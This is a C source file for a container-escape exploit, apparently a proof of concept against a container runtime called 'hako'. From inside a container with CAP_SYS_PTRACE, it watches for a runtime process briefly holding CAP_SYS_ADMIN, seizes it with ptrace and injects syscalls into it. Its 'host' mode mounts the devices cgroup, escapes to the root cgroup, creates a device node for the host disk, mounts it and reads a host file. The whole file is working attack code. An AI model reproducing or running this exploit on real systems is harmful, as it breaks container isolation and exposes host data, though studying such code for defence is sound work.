// ptwin: run inside a container holding CAP_SYS_PTRACE (no user namespace).
// Watches its pid namespace for a process of hako's that holds CAP_SYS_ADMIN
// (bit 21 of CapEff) the container does not have -- the window before execve
// of an init born in a pod (PodInit) or an exec'd process, when a notifying
// seccomp filter makes hako hold CAP_SYS_ADMIN across the user switch --
// seizes it with ptrace and makes it run syscalls of ours.
// mode "probe": only mount a tmpfs and report the caps.
// mode "host":  mount the host's devices cgroup v1 hierarchy, move the
//               tracee to its root, mknod the host's root disk, mount it
//               read-only and read PROOF (a host path) through it.
// Build: gcc -static -O2 -o ptwin ptwin.c
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/mount.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int memfd;
static pid_t T;
static struct user_regs_struct saved;
static unsigned long sysaddr, scratch;

static unsigned long long capeff(pid_t p) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/status", p);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    int n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 0;
    buf[n] = 0;
    char *c = strstr(buf, "CapEff:");
    return c ? strtoull(c + 7, 0, 16) : 0;
}

static void wmem(unsigned long addr, const void *p, size_t n) {
    if (pwrite(memfd, p, n, addr) != (ssize_t)n) perror("pwrite mem");
}

static long inject(long nr, long a1, long a2, long a3, long a4, long a5, long a6) {
    struct user_regs_struct r = saved;
    r.rip = sysaddr; r.rax = nr; r.orig_rax = -1;
    r.rdi = a1; r.rsi = a2; r.rdx = a3; r.r10 = a4; r.r8 = a5; r.r9 = a6;
    if (ptrace(PTRACE_SETREGS, T, 0, &r)) { perror("setregs"); return -9999; }
    if (ptrace(PTRACE_SINGLESTEP, T, 0, 0)) { perror("singlestep"); return -9999; }
    int st;
    waitpid(T, &st, __WALL);
    ptrace(PTRACE_GETREGS, T, 0, &r);
    return (long)r.rax;
}

// a string at scratch+off in the tracee
static unsigned long str(int off, const char *s) {
    wmem(scratch + off, s, strlen(s) + 1);
    return scratch + off;
}

int main(int argc, char **argv) {
    const char *mode = argc > 1 ? argv[1] : "probe";
    const char *proof = argc > 2 ? argv[2] : "/tmp/cold/proof";
    int devmaj = argc > 3 ? atoi(argv[3]) : 254, devmin = argc > 4 ? atoi(argv[4]) : 0;
    pid_t self = getpid();
    unsigned long long mine = capeff(self);
    fprintf(stderr, "ptwin: pid %d CapEff %llx, watching\n", self, mine);
    static char seen[4194304];
again:
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(d))) {
            int p = atoi(e->d_name);
            if (p <= 0 || p == self || p >= (int)sizeof seen || seen[p]) continue;
            unsigned long long c = capeff(p);
            if (!c) continue;
            seen[p] = 1;
            if (!(c & (1ULL << 21)) || (mine & (1ULL << 21))) continue;
            T = p;
            goto found;
        }
        closedir(d);
    }
found:;
    struct timespec t0; clock_gettime(CLOCK_MONOTONIC, &t0);
    fprintf(stderr, "ptwin: pid %d holds CapEff %llx (CAP_SYS_ADMIN); seizing\n", T, capeff(T));
    if (ptrace(PTRACE_SEIZE, T, 0, 0)) {
        perror("PTRACE_SEIZE");
        char cmd[128]; snprintf(cmd, sizeof cmd, "grep -E 'Name|State|PPid|TracerPid|Uid|Cap|NoNewPrivs|Seccomp' /proc/%d/status >&2; readlink /proc/%d/exe >&2", T, T);
        system(cmd);
        goto again;
    }
    if (ptrace(PTRACE_INTERRUPT, T, 0, 0)) { perror("PTRACE_INTERRUPT"); return 1; }
    int st;
    waitpid(T, &st, __WALL);
    ptrace(PTRACE_GETREGS, T, 0, &saved);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", T);
    memfd = open(path, O_RDWR);
    if (memfd < 0) { perror("open mem"); return 1; }
    unsigned char ins[2] = {0};
    pread(memfd, ins, 2, saved.rip - 2);
    if (ins[0] == 0x0f && ins[1] == 0x05) sysaddr = saved.rip - 2;
    else {
        // find a syscall instruction in an executable mapping
        snprintf(path, sizeof path, "/proc/%d/maps", T);
        FILE *f = fopen(path, "r");
        char line[512];
        while (!sysaddr && fgets(line, sizeof line, f)) {
            unsigned long lo, hi; char perm[8];
            if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) != 3 || perm[2] != 'x') continue;
            static unsigned char buf[1 << 20];
            for (unsigned long a = lo; a < hi && !sysaddr; a += sizeof buf) {
                ssize_t n = pread(memfd, buf, sizeof buf, a);
                for (ssize_t i = 0; i + 1 < n; i++) if (buf[i] == 0x0f && buf[i + 1] == 0x05) { sysaddr = a + i; break; }
            }
        }
        fclose(f);
    }
    scratch = (saved.rsp - 0x4000) & ~0xfUL;
    fprintf(stderr, "ptwin: stopped at rip %llx (orig_rax %lld rax %lld), syscall at %lx\n",
            saved.rip, (long long)saved.orig_rax, (long long)saved.rax, sysaddr);
    long r;
    r = inject(SYS_getuid, 0, 0, 0, 0, 0, 0);
    fprintf(stderr, "ptwin: tracee getuid() = %ld\n", r);
    if (!strcmp(mode, "probe")) {
        r = inject(SYS_mount, str(0, "none"), str(64, "/dev"), str(128, "tmpfs"), 0, str(192, "size=4k"), 0);
        fprintf(stderr, "ptwin: tracee mount(tmpfs on /dev) = %ld (needs CAP_SYS_ADMIN)\n", r);
    } else {
        r = inject(SYS_mkdir, str(0, "/dev/cg"), 0700, 0, 0, 0, 0);
        fprintf(stderr, "ptwin: mkdir /dev/cg = %ld\n", r);
        r = inject(SYS_mount, str(0, "cgroup"), str(64, "/dev/cg"), str(128, "cgroup"), 0, str(192, "devices"), 0);
        fprintf(stderr, "ptwin: mount devices cgroup v1 on /dev/cg = %ld\n", r);
        long fd = inject(SYS_open, str(0, "/dev/cg/cgroup.procs"), O_WRONLY, 0, 0, 0, 0);
        r = inject(SYS_write, fd, str(64, "0"), 1, 0, 0, 0);
        inject(SYS_close, fd, 0, 0, 0, 0, 0);
        fprintf(stderr, "ptwin: open root devices cgroup.procs = %ld, write 0 = %ld\n", fd, r);
        r = inject(SYS_mknod, str(0, "/dev/hostdisk"), S_IFBLK | 0600, makedev(devmaj, devmin), 0, 0, 0);
        fprintf(stderr, "ptwin: mknod /dev/hostdisk b %d %d = %ld\n", devmaj, devmin, r);
        inject(SYS_mkdir, str(0, "/dev/host"), 0700, 0, 0, 0, 0);
        r = inject(SYS_mount, str(0, "/dev/hostdisk"), str(64, "/dev/host"), str(128, "ext4"), 0, 0, 0); /* same flags as the host mount: shares its superblock (ro: EBUSY) */
        fprintf(stderr, "ptwin: mount host disk on /dev/host = %ld\n", r);
        char p[256];
        snprintf(p, sizeof p, "/dev/host%s", proof);
        fd = inject(SYS_open, str(0, p), O_RDONLY, 0, 0, 0, 0);
        r = inject(SYS_read, fd, scratch + 1024, 200, 0, 0, 0);
        char out[256] = {0};
        if (r > 0) pread(memfd, out, r < 200 ? r : 200, scratch + 1024);
        fprintf(stderr, "ptwin: open %s = %ld read = %ld: %s\n", p, fd, r, out);
        inject(SYS_close, fd, 0, 0, 0, 0, 0);
        r = inject(SYS_umount2, str(0, "/dev/host"), MNT_DETACH, 0, 0, 0, 0);
        r = inject(SYS_umount2, str(0, "/dev/cg"), MNT_DETACH, 0, 0, 0, 0);
    }
    // put it back as it was: restart the interrupted syscall
    struct user_regs_struct back = saved;
    if ((long)saved.orig_rax >= 0 && ((long)saved.rax == -512 || (long)saved.rax == -513 || (long)saved.rax == -514 || (long)saved.rax == -516)) {
        back.rax = saved.orig_rax; back.rip = saved.rip - 2;
    }
    back.orig_rax = -1;
    ptrace(PTRACE_SETREGS, T, 0, &back);
    ptrace(PTRACE_DETACH, T, 0, 0);
    struct timespec t1; clock_gettime(CLOCK_MONOTONIC, &t1);
    fprintf(stderr, "ptwin: detached after %ld ms\n", (t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000);
    return 0;
}
